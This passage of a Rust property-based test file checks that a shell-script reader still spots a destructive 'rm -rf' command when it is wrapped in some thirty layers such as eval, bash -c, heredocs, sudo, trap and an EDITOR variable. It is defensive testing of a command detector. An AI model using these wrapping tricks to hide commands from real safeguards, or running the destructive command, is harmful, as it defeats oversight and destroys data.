    prop::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
}

proptest! {
    #[test]
    fn no_text_makes_the_reader_fail(text in any::<String>(), words in prop::collection::vec(any::<String>(), 0..4)) {
        let _ = (read_script(&text), read_words(&words));
    }

    #[test]
    fn no_script_makes_the_reader_fail(script in pieces()) {
        let _ = read_script(&script);
    }

    #[test]
    fn a_dangerous_command_cannot_be_wrapped_out_of_sight(layers in prop::collection::vec(0..LAYERS.len(), 0..6)) {
        let script = layers.iter().fold("rm -rf x".to_owned(), |script, layer| LAYERS[*layer](&script));
        let seen = read_script(&script);
        prop_assert!(seen.opaque || runs(&seen, "rm"), "{script}");
    }

    #[test]
    fn what_stands_beside_a_command_cannot_hide_it(before in pieces(), after in pieces()) {
        // A line of its own, unless an open quote, comment or heredoc swallows it: then bash would not run it.
        let alone = format!("{before}\ntrue\n{after}");
        if runs(&read_script(&alone), "true") {
            let seen = read_script(&format!("{before}\nrm x\n{after}"));
            prop_assert!(seen.opaque || runs(&seen, "rm"));
        }
    }
}

/// Ways to run a script that a shell would run too.
const LAYERS: &[fn(&str) -> String] = &[
    |script| format!("( {script} )"),
    |script| format!("{{ {script}; }}"),
    |script| format!("true && {script}"),
    |script| format!("ls; {script} # done"),
    |script| format!("! {script}"),
    |script| format!("echo $( {script})"),
    |script| format!("echo \"$({script}\n)\""),
    |script| format!("cat <({script}\n)"),
    |script| format!("if {script}\nthen :; fi"),
    |script| format!("while {script}\ndo :; done"),
    |script| format!("case a in a) {script}\n;; esac"),
    |script| format!("f() {{ {script}\n}}; f"),
    |script| format!("bash -c '{}'", script.replace('\'', r"'\''")),
    |script| format!("eval '{}'", script.replace('\'', r"'\''")),
    |script| format!("sudo -u root sh -ec '{}'", script.replace('\'', r"'\''")),
    |script| format!("find . -exec sh -c '{}' \\;", script.replace('\'', r"'\''")),
    |script| format!("bash <<'END{}'\n{script}\nEND{0}", script.len()),
    |script| format!("cat <<'END{}' | sh\n{script}\nEND{0}", script.len()),
    |script| format!("trap '{}' EXIT", script.replace('\'', r"'\''")),
    |script| format!("echo `{}`", script.replace('\\', r"\\").replace('`', r"\`").replace('$', r"\$")),
    |script| format!("x=${{y:-$({script}\n)}}"),
    |script| format!("env A=1 timeout -k 1 5 nice bash -c '{}'", script.replace('\'', r"'\''")),
    |script| format!("A=1 B=$x sh -c '{}' > log 2>&1 < in", script.replace('\'', r"'\''")),
    |script| format!("sudo --new value sh -c '{}'", script.replace('\'', r"'\''")),
    |script| format!("docker exec -it web sh -c '{}'", script.replace('\'', r"'\''")),
    |script| format!("EDITOR='{}' git commit", script.replace('\'', r"'\''")),
    |script| format!("x='a[$( {}\n)]'; ((x))", script.replace('\'', r"'\''")),
    |script| format!("cat > s <<'END{}'\n{script}\nEND{0}\nsh s", script.len()),
    |script| format!("function g {{ {script}\n}} > log; g"),
    |script| format!("for i in 1; do {script}\ndone >> log"),
    |script| format!("until {script}\ndo :; done"),
    |script| format!("{{ {script}\n}} | tee log"),
    |script| format!("coproc {{ {script}\n}}"),
];
